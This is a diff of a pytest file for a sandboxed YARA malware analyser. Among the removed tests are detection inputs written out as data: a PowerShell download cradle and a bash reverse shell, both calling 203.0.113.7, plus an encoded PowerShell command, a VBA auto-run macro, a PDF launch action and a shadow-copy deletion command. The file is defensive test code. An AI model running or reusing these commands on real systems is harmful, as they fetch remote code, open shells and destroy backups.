@@ -1,47 +1,19 @@
-"""The YARA analyser in its sandbox, with the shipped rules and with the rules of a user."""
+"""The YARA analyser in its sandbox, with the rules of a user."""
 
 import logging
 import os
 import shutil
-from collections.abc import AsyncIterator, Awaitable, Callable
+from collections.abc import AsyncIterator, Callable
 from pathlib import Path
 
 import msgspec
 import pytest
 
-from samplebank.sandbox import SandboxError
 from samplebank.worker.analysers import BUILT_IN
-from samplebank.worker.analysers.testing import analysed, sample_file
-from samplebank.worker.contract import Detection, Result, Tag
+from samplebank.worker.analysers.testing import sample_file
+from samplebank.worker.contract import Tag
 from samplebank.worker.sandboxed import SandboxedAnalyser
-from worker import made_files
-
-Analyse = Callable[[bytes], Awaitable[Result]]
-
-SHIPPED_RULES = Path(__file__).parents[2] / "src" / "samplebank" / "worker" / "analysers" / "yara_rules"
-RULE = 'rule %s { meta: score = %d family = "Staged" strings: $a = "needle" condition: $a }'
-
-HALF_BROKEN = (RULE % ("Good_Half", 90)).encode() + b"rule Bad { condition: $x }"
-ELSEWHERE = SHIPPED_RULES / next(SHIPPED_RULES.glob("*.yar")).name
-
-
-def move(folder: Path, to: Path) -> None:
-    folder.rename(to)
-
-
-def replace(folder: Path, files: dict[str, str]) -> None:
-    """Put another folder in the place of a folder."""
-    prepared = folder.with_name("prepared")
-    prepared.mkdir()
-    for name, text in files.items():
-        (prepared / name).write_text(text)
-    if folder.exists():
-        shutil.rmtree(folder)
-    move(prepared, folder)
-
-
-def named(result: Result) -> list[str]:
-    return [found["rule"] for found in result.result["rules"]]
+from worker.rule_files import ELSEWHERE, HALF_BROKEN, RULE, move, named, replace
 
 
 @pytest.fixture(scope="module")
@@ -86,64 +58,6 @@ def sample(tmp_path: Path) -> Path:
     path = tmp_path / "sample"
     path.write_bytes(b"a needle in a haystack of caf\xe9s")
     return path
-
-
-async def test_the_test_virus_is_malicious(yara: Analyse) -> None:
-    result = await yara(made_files.EICAR.encode())
-
-    assert result.score == 100
-    assert result.detections == [Detection("EICAR_Test_File", "malicious")]
-    assert result.tags == [Tag("yara", "EICAR_Test_File"), Tag("family", "EICAR")]
-
-
-def test_the_shipped_rules_do_not_contain_the_test_virus() -> None:
-    shipped = "".join(path.read_text() for path in SHIPPED_RULES.iterdir())
-
-    assert "EICAR" in shipped
-    assert made_files.EICAR not in shipped
-
-
-@pytest.mark.parametrize(
-    ("content", "rule"),
-    [
-        pytest.param(made_files.packed(), "UPX_Packed_PE", id="upx"),
-        pytest.param(
-            made_files.importing("kernel32.dll", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"),
-            "Process_Injection_Imports",
-            id="injection",
-        ),
-        pytest.param(b"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/')",
-                     "PowerShell_Download_Cradle", id="cradle"),
-        pytest.param(b"powershell.exe -w hidden -enc " + b"QQBB" * 20, "PowerShell_Encoded_Command", id="encoded"),
-        pytest.param(("powershell.exe -enc " + "QQBB" * 20).encode("utf-16-le"),
-                     "PowerShell_Encoded_Command", id="wide"),
-        pytest.param(b"bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "Shell_Reverse_Shell", id="reverse shell"),
-        pytest.param(b'Sub AutoOpen()\nShell ("calc.exe")\nEnd Sub', "VBA_Auto_Open_And_Shell", id="vba"),
-        pytest.param(made_files.pdf("<< /S /Launch /Win << /F (cmd.exe) >> >>"), "PDF_Launch_Action", id="pdf"),
-        pytest.param(made_files.word(word__vbaProject_dot_bin="x"), "Office_Macro_Document", id="macros"),
-        pytest.param(b"vssadmin delete shadows /all /quiet", "Ransom_Shadow_Copy_Removal", id="ransom"),
-    ],
-)  # fmt: skip
-async def test_the_shipped_rules_find_what_they_are_for(yara: Analyse, content: bytes, rule: str) -> None:
-    result = await yara(content)
-
-    assert rule in {tag.value for tag in result.tags}
-
-
-@pytest.mark.parametrize(
-    "content",
-    [
-        pytest.param(made_files.launcher(), id="launcher"),
-        pytest.param(Path("/bin/ls").read_bytes(), id="ls"),
-        pytest.param(made_files.pdf("<< /Type /Catalog >>"), id="pdf"),
-        pytest.param(b"plain words " * 500, id="text"),
-    ],
-)
-async def test_nothing_is_found_in_harmless_files(yara: Analyse, content: bytes) -> None:
-    result = await yara(content)
-
-    assert (result.score, result.detections) == (-1, [])
-    assert result.possible_detections
 
 
 async def test_the_score_is_that_of_the_worst_rule(
@@ -436,24 +350,6 @@ async def test_a_file_that_is_replaced_by_renaming_is_read_anew(
     after = await own_rules.analyse(sample_file(sample))
 
     assert [rule["rule"] for one in (before, after) for rule in one.result["rules"]] == ["One", "Two"]
-
-
-async def test_the_rules_that_come_along_can_be_left_out(rules: Path) -> None:
-    (rules / "own.yar").write_text("rule Own { condition: true }")
-    (rules / "virus").write_text(made_files.EICAR)
-
-    result = await analysed(
-        BUILT_IN["yara"], rules / "virus", settings={"yara_rules": str(rules), "shipped_rules": "no"}
-    )
-
-    assert (result.tags, result.possible_detections) == ([Tag("yara", "Own")], 1)
-
-
-async def test_a_missing_rules_folder_is_named(tmp_path: Path, sample: Path) -> None:
-    missing = tmp_path / "nowhere"
-
-    with pytest.raises(SandboxError, match="nowhere, which is not a folder"):
-        await analysed(BUILT_IN["yara"], sample, settings={"yara_rules": str(missing)})
 
 
 async def test_a_rule_cannot_include_files(own_rules: SandboxedAnalyser, rules: Path, sample: Path) -> None:
